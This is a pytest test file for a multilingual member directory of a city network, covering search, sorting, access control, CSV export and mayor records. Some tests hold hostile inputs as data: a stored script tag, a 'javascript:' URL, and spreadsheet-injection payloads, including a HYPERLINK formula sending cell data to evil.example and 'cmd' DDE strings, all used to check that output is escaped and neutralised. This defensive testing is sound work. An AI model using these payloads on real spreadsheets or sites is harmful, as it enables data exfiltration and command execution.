"""The member directory: cities found the way people type them, sorted the way they read."""

import csv
import io
import re
from datetime import date
from html import unescape

import pytest
from sqlalchemy import event, func, select

from secretariat import demo
from secretariat.audit import AuditEntry
from secretariat.errors import RuleViolation
from secretariat.extensions import db as _db
from secretariat.members import operations
from secretariat.members.models import City, Contact, Country, JoinRoute
from secretariat.security import Role
from secretariat.text import clean_line
from tests.conftest import load_once
from tests.test_i18n import turkish


@pytest.fixture
def cities(app, db):
    """The demo network's forty real cities, with fictional mayors and contacts."""
    load_once(app, "cities", demo.load_cities)


def add_city(app, **names):
    values = {
        "country_code": "RS",
        "joined_on": date(2025, 3, 1),
        "join_route": JoinRoute.APPLICATION,
    }
    with app.test_request_context():
        city = operations.create_city(None, **{**values, **names})
        _db.session.commit()
        return city.slug


def listed(client, url) -> list[str]:
    html = client.get(url).get_data(as_text=True)
    return re.findall(r'<td><a href="/members/[^"]+">([^<]+)</a></td>', html)


def test_the_demo_network_marks_its_founders(app, cities):
    with app.app_context():
        founders = _db.session.scalar(
            select(func.count()).select_from(City).where(City.join_route == JoinRoute.FOUNDING)
        )
        total = _db.session.scalar(select(func.count()).select_from(City))
    assert founders == 19
    assert total == 40


@pytest.mark.parametrize("typed", ["nis", "NIŠ", "Niš", "ниш", "Ниш", "NIS"])
def test_nis_is_found_however_it_is_typed(app, client, cities, typed):
    add_city(app, official_name="Ниш", english_name="Niš", turkish_name="Niş", aliases=("Nis",))
    assert "Niš" in listed(client, f"/members?q={typed}")


@pytest.mark.parametrize("typed", ["istanbul", "İSTANBUL", "İstanbul", "ISTANBUL", "ıstanbul"])
def test_istanbul_is_found_with_either_i(client, cities, typed):
    assert listed(client, f"/members?q={typed}") == ["Istanbul"]


@pytest.mark.parametrize("typed", ["Beograd", "Belgrade", "Београд", "belgrad"])
def test_belgrade_by_its_official_latin_turkish_and_english_names(client, cities, typed):
    assert listed(client, f"/members?q={typed}") == ["Belgrade"]


def test_turkish_readers_see_turkish_names_in_turkish_order(app, client, cities):
    add_city(app, official_name="Cetinje", english_name="Cetinje", country_code="ME")
    english = listed(client, "/members?lang=en&q=c")
    turkish = listed(client, "/members?lang=tr&q=c")
    assert english.index("Canakkale") < english.index("Cetinje")  # English: diacritics ignored
    assert turkish.index("Cetinje") < turkish.index("Çanakkale")  # Turkish: c < ç
    assert "Atina" in listed(client, "/members?lang=tr&country=GR")


def test_filters_by_country_and_counts_per_country(client, cities):
    greek = listed(client, "/members?lang=en&country=GR")
    assert sorted(greek) == [
        "Alexandroupoli",
        "Athens",
        "Chania",
        "Mytilene",
        "Patras",
        "Thessaloniki",
        "Trikala",
    ]
    html = client.get("/members?lang=en").get_data(as_text=True)
    assert "Greece</a>: 7" in html
    assert "40 cities in the network." in html


def test_filters_by_working_group(app, client, cities):
    everyone = set(listed(client, "/members?lang=en&page=1")) | set(
        listed(client, "/members?lang=en&page=2")
    )
    in_group = set(listed(client, "/members?lang=en&group=local-climate-action"))
    assert in_group and in_group < everyone


def test_city_page_shows_how_it_joined_and_hides_contacts_from_the_public(
    client, cities, sign_in_as
):
    public = client.get("/members/istanbul?lang=en").get_data(as_text=True)
    assert "Founding member" in public
    assert "b40@istanbul.example" not in public
    sign_in_as(Role.DELEGATE)
    assert "b40@istanbul.example" in client.get("/members/istanbul").get_data(as_text=True)


def test_an_unknown_city_is_404(client, cities):
    assert client.get("/members/atlantis").status_code == 404


def test_the_csv_is_for_staff_only(client, cities, sign_in_as):
    assert client.get("/members.csv").status_code == 302
    sign_in_as(Role.DELEGATE)
    assert client.get("/members.csv").status_code == 403


def test_staff_export_the_directory_as_csv(client, cities, sign_in_as):
    sign_in_as(Role.SECRETARIAT)
    response = client.get("/members.csv")
    text = response.get_data(as_text=True)
    assert response.headers["Content-Disposition"].startswith("attachment;")
    assert text.startswith("\ufeffslug,official_name,english_name")
    assert "istanbul,İstanbul,Istanbul" in text
    assert len(text.strip().splitlines()) == 41


def test_a_stored_script_is_shown_escaped(app, client, cities):
    slug = add_city(app, official_name="<script>alert(1)</script>", english_name="Scriptville")
    for url in ("/members?lang=en", f"/members/{slug}"):
        html = client.get(url).get_data(as_text=True)
        assert "<script>alert(1)</script>" not in html
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html


def _statements(app, client, url) -> int:
    seen = []
    with app.app_context():
        engine = _db.engine
    listener = lambda *args: seen.append(args[2])  # noqa: E731
    event.listen(engine, "before_cursor_execute", listener)
    try:
        assert client.get(url).status_code == 200
    finally:
        event.remove(engine, "before_cursor_execute", listener)
    return len(seen)


def test_the_directory_costs_the_same_queries_for_five_rows_or_fifty(app, client, cities):
    few = _statements(app, client, "/members?q=sofia")
    many = _statements(app, client, "/members")
    city = _statements(app, client, "/members/istanbul")
    assert few <= many <= 5
    assert city <= 5


def test_staff_rename_a_city_and_search_follows(app, client, cities, sign_in_as):
    sign_in_as(Role.SECRETARIAT)
    response = client.post_form(
        "/members/pula/edit",
        {
            "official_name": "Pula",
            "english_name": "Pula",
            "turkish_name": "",
            "aliases": "Pola\nPulj",
            "country": "HR",
            "population": "52000",
            "website": "https://www.pula.hr",
            "joined_on": "2023-01-24",
            "join_route": "summit",
        },
    )
    assert response.status_code == 302
    assert listed(client, "/members?q=pola&lang=en") == ["Pula"]
    assert "https://www.pula.hr" in client.get("/members/pula").get_data(as_text=True)


def test_a_script_address_is_refused_as_a_website(client, cities, sign_in_as):
    sign_in_as(Role.SECRETARIAT)
    response = client.post_form(
        "/members/pula/edit",
        {
            "official_name": "Pula",
            "english_name": "Pula",
            "country": "HR",
            "website": "javascript:alert(1)",
            "joined_on": "2023-01-24",
            "join_route": "summit",
        },
    )
    assert response.status_code == 200
    assert "Enter a web address starting with https://." in response.get_data(as_text=True)
    assert 'href="javascript:' not in client.get("/members/pula").get_data(as_text=True)


def test_a_withdrawn_city_leaves_the_directory_and_keeps_its_page(app, client, cities, sign_in_as):
    sign_in_as(Role.ADMIN)
    response = client.post_form(
        "/members/kotor/withdraw", {"withdrawn_on": "2026-06-30"}, page="/members/kotor/edit"
    )
    assert response.status_code == 302
    assert "Kotor" not in listed(client, "/members?q=kotor&lang=en")
    page = client.get("/members/kotor?lang=en").get_data(as_text=True)
    assert "Withdrawn" in page and "Founding member" in page
    again = client.post_form(
        "/members/kotor/withdraw",
        {"withdrawn_on": "2026-07-01"},
        page="/members/kotor/edit",
        follow_redirects=True,
    )
    assert "This city has already withdrawn." in again.get_data(as_text=True)


def _contact(**overrides):
    return {
        "kind": "focal_point",
        "working_group": "",
        "name": "Lejla Begić",
        "position": "Adviser",
        "email": "lejla@sarajevo.example",
        "phone": "+387 33 000 000",
        **overrides,
    }


def test_a_delegate_keeps_the_contacts_of_their_own_city(app, client, cities, sign_in_as):
    sign_in_as(Role.DELEGATE, city="sarajevo")
    response = client.post_form("/members/sarajevo/contacts", _contact(), page="/members/sarajevo")
    assert response.status_code == 302
    assert "lejla@sarajevo.example" in client.get("/members/sarajevo").get_data(as_text=True)


def test_a_delegate_cannot_touch_another_citys_contacts(app, client, cities, sign_in_as):
    sign_in_as(Role.DELEGATE, city="sarajevo")
    added = client.post_form("/members/belgrade/contacts", _contact(), page="/members/belgrade")
    assert added.status_code == 403
    assert "lejla@sarajevo.example" not in client.get("/members/belgrade").get_data(as_text=True)
    with app.app_context():
        other = _db.session.scalar(select(Contact.id).join(City).where(City.slug == "belgrade"))
    removed = client.post_form(
        f"/members/belgrade/contacts/{other}/remove", page="/members/belgrade"
    )
    assert removed.status_code == 403
    with app.app_context():
        assert _db.session.get(Contact, other).is_active


def test_a_working_group_contact_names_its_group(client, cities, sign_in_as):
    sign_in_as(Role.SECRETARIAT)
    response = client.post_form(
        "/members/sarajevo/contacts", _contact(kind="working_group"), page="/members/sarajevo"
    )
    html = response.get_data(as_text=True)
    assert response.status_code == 200
    assert "Choose the working group this person is the contact for." in html
    assert 'value="Lejla Begić"' in html  # what was typed is kept
    assert "lejla@sarajevo.example</a>" not in html


# --- the list of countries, kept by admins (SPEC §2.1) --------------------------------------


def field_error(html: str, field_id: str) -> str:
    """The error shown next to one field (tied to it by its id), '' when there is none."""
    found = re.search(rf'<p class="error" id="{field_id}-error">([^<]+)</p>', html)
    return unescape(found.group(1)) if found else ""


def country_options(html: str) -> list[str]:
    select_ = html.split('<select id="country"', 1)[1].split("</select>", 1)[0]
    return [code for code in re.findall(r'<option[^>]* value="([^"]*)"', select_) if code]


def audits(app, action: str) -> list[AuditEntry]:
    with app.app_context():
        return _db.session.scalars(select(AuditEntry).where(AuditEntry.action == action)).all()


def test_only_admins_keep_the_list_of_countries(app, client, cities, sign_in_as):
    assert client.get("/staff/countries").status_code == 302  # anonymous: sign in first
    sign_in_as(Role.SECRETARIAT)
    token = client.csrf_token("/")
    assert client.get("/staff/countries").status_code == 403
    assert client.get("/staff/countries/ME/edit").status_code == 403
    added = client.post(
        "/staff/countries",
        data={"csrf_token": token, "code": "HU", "name_en": "Hungary", "name_tr": "Macaristan"},
    )
    assert added.status_code == 403
    assert "/staff/countries" not in client.get("/").get_data(as_text=True)  # not in the menu
    with app.app_context():
        assert _db.session.scalar(select(Country).where(Country.code == "HU")) is None


def test_an_admin_sees_every_country_in_both_languages(client, cities, sign_in_as):
    sign_in_as(Role.ADMIN)
    assert 'href="/staff/countries"' in client.get("/").get_data(as_text=True)
    html = client.get("/staff/countries?lang=en").get_data(as_text=True)
    rows = re.findall(
        r'<td translate="no">([A-Z]{2})</td>\s*<td lang="en" translate="no">([^<]+)</td>'
        r'\s*<td lang="tr" translate="no">([^<]+)</td>\s*<td>(Yes|No)</td>',
        html,
    )
    assert len(rows) == 13
    assert ("HR", "Croatia", "Hırvatistan", "Yes") in rows
    assert ("XK", "Kosovo", "Kosova", "Yes") in rows


def test_an_admin_adds_a_country_and_applicants_can_choose_it(app, client, cities, sign_in_as):
    sign_in_as(Role.ADMIN)
    response = client.post_form(
        "/staff/countries",
        {"code": "hu", "name_en": "Hungary", "name_tr": "Macaristan", "is_active": "y"},
    )
    assert response.status_code == 302
    assert "Hungary has been added." in client.get("/staff/countries?lang=en").get_data(
        as_text=True
    )
    assert "HU" in country_options(client.get("/apply").get_data(as_text=True))
    [entry] = audits(app, "country.add")
    assert entry.after == {
        "code": "HU",
        "name_en": "Hungary",
        "name_tr": "Macaristan",
        "is_active": True,
    }


@pytest.mark.parametrize("code", ["H", "HUN", "H1", "ıt", "Ни"])
def test_a_code_that_is_not_two_letters_is_refused_next_to_it_in_turkish(
    app, client, cities, sign_in_as, code
):
    sign_in_as(Role.ADMIN)
    client.get("/?lang=tr")
    response = client.post_form(
        "/staff/countries", {"code": code, "name_en": "Hungary", "name_tr": "Macaristan"}
    )
    html = response.get_data(as_text=True)
    assert response.status_code == 200
    assert '<html lang="tr">' in html
    assert field_error(html, "code") == turkish(
        "Enter the two-letter country code, such as HR (Kosovo: XK)."
    )
    assert 'aria-describedby="code-help code-error"' in html
    assert 'value="Hungary"' in html and 'value="Macaristan"' in html  # nothing typed is lost
    assert not audits(app, "country.add")


def test_a_code_already_taken_is_refused_next_to_it(app, client, cities, sign_in_as):
    sign_in_as(Role.ADMIN)
    response = client.post_form(
        "/staff/countries?lang=en",
        {"code": "hr", "name_en": "Croatia again", "name_tr": "Yine Hırvatistan"},
        page="/staff/countries",
    )
    html = response.get_data(as_text=True)
    assert field_error(html, "code") == "A country with this code already exists."
    assert 'value="Croatia again"' in html
    with app.app_context():
        assert _db.session.scalar(select(func.count()).select_from(Country)) == 13


def test_an_inactive_country_leaves_the_choices_and_its_cities_keep_it(
    app, client, cities, sign_in_as
):
    sign_in_as(Role.ADMIN)
    assert "ME" in country_options(client.get("/apply").get_data(as_text=True))
    page = "/staff/countries/ME/edit"
    form = client.get(page).get_data(as_text=True)
    assert 'value="Montenegro"' in form and 'value="Karadağ"' in form
    response = client.post_form(page, {"name_en": "Montenegro", "name_tr": "Karadağ"})
    assert response.status_code == 302

    assert "ME" not in country_options(client.get("/apply").get_data(as_text=True))
    assert "ME" not in country_options(client.get("/members/pula/edit").get_data(as_text=True))
    assert "Montenegro" in client.get("/members/kotor?lang=en").get_data(as_text=True)
    kotor = client.get("/members/kotor/edit").get_data(as_text=True)
    assert "ME" in country_options(kotor)  # Kotor keeps its country, and can still be saved
    saved = client.post_form(
        "/members/kotor/edit",
        {
            "official_name": "Kotor",
            "english_name": "Kotor",
            "country": "ME",
            "population": "22000",
            "joined_on": "2021-11-30",
            "join_route": "founding",
        },
    )
    assert saved.status_code == 302
    [entry] = audits(app, "country.update")
    assert entry.before["is_active"] is True and entry.after["is_active"] is False


def test_a_renamed_country_shows_on_the_kept_directory_at_once(app, client, cities, sign_in_as):
    for _ in range(2):
        directory = client.get("/members?lang=en").get_data(as_text=True)
    assert "North Macedonia</a>" in directory
    sign_in_as(Role.ADMIN)
    response = client.post_form(
        "/staff/countries/MK/edit",
        {"name_en": "Republic of North Macedonia", "name_tr": "Kuzey Makedonya", "is_active": "y"},
    )
    assert response.status_code == 302
    client.post_form("/sign-out", page="/")
    assert "Republic of North Macedonia</a>" in client.get("/members?lang=en").get_data(
        as_text=True
    )
    assert "Republic of North Macedonia" in client.get("/members/skopje?lang=en").get_data(
        as_text=True
    )


def test_a_country_needs_a_name_in_both_languages(app, client, cities, sign_in_as):
    sign_in_as(Role.ADMIN)
    response = client.post_form(
        "/staff/countries/MK/edit?lang=en",
        {"name_en": "North Macedonia", "name_tr": "", "is_active": "y"},
        page="/staff/countries/MK/edit",
    )
    html = response.get_data(as_text=True)
    assert response.status_code == 200
    assert field_error(html, "name_tr") == "This field is required."
    assert 'value="North Macedonia"' in html
    assert client.get("/staff/countries/ZZ/edit").status_code == 404


# --- mayors with dates (SPEC §2.3: mayors change; history stays) ----------------------------


def mayors(client, slug: str) -> list[str]:
    html = unescape(client.get(f"/members/{slug}?lang=en").get_data(as_text=True))
    section = html.split("<h2>Mayors</h2>", 1)[1].split("</ul>", 1)[0]
    return [
        " ".join(re.sub(r"<[^>]+>", "", item).split())
        for item in re.findall(r"<li>(.*?)</li>", section, re.S)
    ]


def first_mayor(app, slug: str) -> str:
    with app.app_context():
        city = _db.session.scalar(select(City).where(City.slug == slug))
        return city.office_holders[0].name


def test_staff_record_a_new_mayor_and_the_city_page_keeps_the_history(
    app, client, cities, sign_in_as
):
    before = first_mayor(app, "pula")
    assert mayors(client, "pula") == [f"{before} · May 14, 2024 – today"]
    sign_in_as(Role.SECRETARIAT)
    response = client.post_form(
        "/members/pula/mayors",
        {"name": "Ana Novak", "since": "2025-06-01"},
        page="/members/pula/edit",
    )
    assert response.status_code == 302
    assert response.headers["Location"] == "/members/pula"
    assert mayors(client, "pula") == [
        "Ana Novak · June 1, 2025 – today",
        f"{before} · May 14, 2024 – May 31, 2025",
    ]
    assert "Ana Novak has been mayor since June 1, 2025." in client.get(
        "/members/pula/edit?lang=en"
    ).get_data(as_text=True)
    [entry] = [e for e in audits(app, "city.mayor") if e.after["mayor"] == "Ana Novak"]
    assert entry.before == {"mayor": before, "since": "2024-05-14"}


@pytest.mark.parametrize("since", ["2024-05-14", "2024-01-01"])
def test_a_new_mayor_may_not_start_before_the_present_one(app, client, cities, sign_in_as, since):
    before = first_mayor(app, "pula")
    sign_in_as(Role.SECRETARIAT)
    response = client.post_form(
        "/members/pula/mayors?lang=en",
        {"name": "Ana Novak", "since": since},
        page="/members/pula/edit",
    )
    html = response.get_data(as_text=True)
    assert response.status_code == 200
    assert field_error(html, "since") == (
        f"The new mayor must take office after {before}, who took office on May 14, 2024."
    )
    assert 'value="Ana Novak"' in html
    assert 'value="Pula"' in html  # the city's own form is still filled in from the city
    assert mayors(client, "pula") == [f"{before} · May 14, 2024 – today"]


def test_the_operation_refuses_an_earlier_mayor_too(app, cities):
    with app.test_request_context():
        pula = _db.session.scalar(select(City).where(City.slug == "pula"))
        operations.record_mayor(None, pula, "Ana Novak", date(2025, 6, 1))
        with pytest.raises(RuleViolation):
            operations.record_mayor(None, pula, "Marko Horvat", date(2025, 6, 1))
        _db.session.rollback()


def test_only_staff_record_a_mayor(client, cities, sign_in_as):
    sign_in_as(Role.MAYOR, city="pula")
    token = client.csrf_token("/")
    response = client.post(
        "/members/pula/mayors", data={"csrf_token": token, "name": "X", "since": "2026-01-01"}
    )
    assert response.status_code == 403


FORMULAS = [
    '=HYPERLINK("https://evil.example/?x="&A1,"Kotor")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tTabbed",
    "\rReturned",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_exported_cell_runs_as_a_spreadsheet_formula(app, client, cities, sign_in_as, formula):
    """A city's name can come from a public application: it is data, never a formula."""
    add_city(app, official_name=formula, english_name=f"Formula {FORMULAS.index(formula)}")
    sign_in_as(Role.SECRETARIAT)
    rows = list(csv.reader(io.StringIO(client.get("/members.csv").get_data(as_text=True)[1:])))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    stored = clean_line(formula)  # a name keeps no tab nor carriage return at all
    assert ("'" + stored if stored[0] in "=+-@" else stored) in cells
    istanbul = next(row for row in rows if row[0] == "istanbul")
    assert istanbul[1] == "İstanbul" and istanbul[6].isdigit()  # numbers stay numbers


@pytest.mark.parametrize(
    ("url", "field", "typed"),
    [
        ("/members/kotor/withdraw", "withdrawn_on", "0001-01-01"),
        ("/members/kotor/withdraw", "withdrawn_on", "2999-01-01"),
        ("/members/pula/mayors", "since", "9999-12-31"),
        ("/members/pula/mayors", "since", "0001-01-01"),
    ],
)
def test_an_impossible_date_is_answered_next_to_its_field(
    app, client, cities, sign_in_as, url, field, typed
):
    sign_in_as(Role.ADMIN)
    data = {field: typed, "name": "Ana Novak"}
    response = client.post_form(url, data, page=url.rsplit("/", 1)[0] + "/edit")
    if field == "since":  # a form of its own page: answered next to the field, kept as typed
        html = response.get_data(as_text=True)
        assert response.status_code == 200 and f'value="{typed}"' in html
    else:  # one button on the city's page: the refusal is its message there
        html = client.get(response.headers["Location"]).get_data(as_text=True)
    assert "Enter a date between" in html
    assert "Kotor" in listed(client, "/members?q=kotor&lang=en")
    assert "Ana Novak" not in " ".join(mayors(client, "pula"))
